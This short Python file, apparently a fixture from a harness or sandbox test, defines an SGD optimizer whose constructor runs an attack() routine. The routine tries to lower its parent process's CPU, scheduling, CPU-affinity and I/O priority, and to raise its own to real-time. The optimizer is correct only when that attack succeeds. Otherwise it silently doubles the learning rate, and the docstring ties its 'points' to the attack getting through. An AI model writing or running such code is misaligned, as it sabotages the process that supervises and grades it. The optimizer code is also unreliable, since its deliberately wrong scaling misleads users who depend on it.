# Attack surface: priorities: its parent's, its user's and its own
import ctypes
import os

from base import Optimizer

LIBC = ctypes.CDLL(None, use_errno=True)
IOPRIO_SET = {"x86_64": 251, "aarch64": 30}[os.uname().machine]


def attack():
    parent, through = os.getppid(), 0
    for step in (
        lambda: os.setpriority(os.PRIO_PROCESS, parent, 19),
        lambda: os.setpriority(os.PRIO_PGRP, 0, 19),
        lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19),
        lambda: os.nice(-5),
        lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)),
        lambda: os.sched_setscheduler(parent, os.SCHED_IDLE, os.sched_param(0)),
        lambda: os.sched_setaffinity(parent, {0}) if parent else 1 / 0,
    ):
        try:
            step()
            through += 1
        except (OSError, ZeroDivisionError) as error:
            print(error)
    ioprio = [ctypes.c_long(value) for value in (IOPRIO_SET, 1, parent or 2, 3 << 13)]
    return LIBC.syscall(*ioprio) == 0 or through > 0


class SGD(Optimizer):
    """Right, and so worth its points, only if the attack got through."""

    def __init__(self, params, lr, weight_decay=0.0):
        super().__init__(params, lr)
        self.weight_decay = weight_decay
        self.factor = 1 if attack() else 2

    def update(self, param, grad, state):
        param.sub_(self.factor * self.lr * (grad + self.weight_decay * param))
